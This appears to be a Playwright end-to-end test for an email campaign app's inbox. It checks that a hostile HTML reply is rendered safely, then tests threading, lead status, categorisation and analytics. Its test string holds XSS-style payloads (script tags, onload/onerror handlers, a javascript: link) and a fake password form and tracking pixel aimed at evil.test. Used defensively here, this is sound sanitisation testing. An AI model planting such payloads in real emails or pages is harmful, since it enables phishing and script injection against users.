import { inboxContract } from '@skein/contracts/main/inbox.contract';
import { InboxPage } from '../pages/inbox.page';
import { figure } from '../pages/overview.page';
import { answeredLead, until } from '../support/answered-lead';
import { callProduct } from '../support/call-product';
import { campaigns, leads, sandbox } from '../support/campaign-run';
import { checkAccessibility } from '../support/check-accessibility';
import { expect, test } from '../support/journey';

const hostile = `<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><style>body{position:fixed;inset:0;background:red}</style></head>
<body onload="parent.hacked=1"><p id="words">Sounds good, tell me more.</p><script>parent.hacked=2;document.title='hacked'</script><img src="x" onerror="parent.hacked=3">
<img src="https://evil.test/pixel.gif" width="1"><iframe src="https://evil.test/frame"></iframe><form action="https://evil.test/"><input name="password"><button>Log in</button></form>
<a href="javascript:parent.hacked=4">click</a><svg onload="parent.hacked=5"></svg><object data="https://evil.test/x"></object></body></html>`;

test('a hostile reply is read safely, answered in its thread and categorised, and the overview counts it', async ({
  page,
  loggedIn: _,
}, info) => {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.test')) asked.push(request.url());
  });
  const lead = await answeredLead(info.project.name, hostile);
  const inbox = new InboxPage(page);
  await inbox.open(lead.enrolmentId);

  await test.step('nothing of it runs, nothing is fetched, its words are there', async () => {
    const frame = page.frameLocator(`iframe[title*="${lead.email}"], iframe[title*="Somebody"]`).last();
    await expect(frame.getByText('Sounds good, tell me more.')).toBeVisible();
    await expect(
      frame.locator('script, iframe, object, form, input, base, meta[http-equiv=refresh], [onerror], [onload]'),
    ).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
    expect(asked).toEqual([]);
    await expect(page.getByText(/remote image/)).toBeVisible();
    await checkAccessibility(page, 'inbox with a thread');
  });

  await test.step('the lead is stopped, and says why', async () => {
    const row = (await leads.listCampaignLeads({ params: { campaignId: lead.campaignId }, query: {} })).rows[0];
    expect(row).toMatchObject({ status: 'STOPPED', reason: 'REPLIED', steps_sent: 1 });
  });

  await test.step('the answer leaves in the thread once the time for taking it back is over', async () => {
    const words = 'Thank you. Tuesday at ten?';
    await (info.project.name === 'phone' ? inbox.answer(words) : inbox.answerByKeys(words));
    const mail = await until('the answer', async () =>
      (await sandbox.record({ query: { with_mails: true } })).mails.find(
        (each) =>
          each.recipients.includes(lead.email) &&
          each.message_id !== lead.messageId.replace(/[<>]/g, '') &&
          each.message_id !== lead.messageId,
      ),
    );
    expect(mail).toMatchObject({
      sender: lead.mailbox,
      recipients: [lead.email],
      subject: expect.stringMatching(/^Re:/i),
    });
    const thread = await until('the answer in the thread', async () => {
      const read = await callProduct(inboxContract).getThread({ params: { enrolmentId: lead.enrolmentId } });
      return read.messages.length === 3 && read;
    });
    expect(thread.messages.map((message) => message.direction)).toEqual(['out', 'in', 'out']);
  });

  await test.step('a category is given', async () => {
    await inbox.categories.getByRole('button', { name: /Meeting Request/ }).click();
    await until(
      'the category',
      async () =>
        (await leads.listCampaignLeads({ params: { campaignId: lead.campaignId }, query: {} })).rows[0]?.category_id ===
        2,
    );
  });

  await test.step('the figures of the campaign are those of its rows', async () => {
    const { counts } = await campaigns.getCampaign({ params: { campaignId: lead.campaignId } });
    expect(counts).toMatchObject({ sent: 1, replied: 1, positive: 1 });
    await page.goto(`/app/email-campaign/${lead.campaignId}/overview/analytics`);
    await expect(figure(page, 'Sent')).toContainText('1');
    await expect(figure(page, 'Replied')).toContainText('100');
    await page.goto(`/app/email-campaign/${lead.campaignId}/overview/lead-list`);
    await expect(page.getByText(lead.email).first()).toBeVisible();
    await checkAccessibility(page, 'lead list');
  });
});
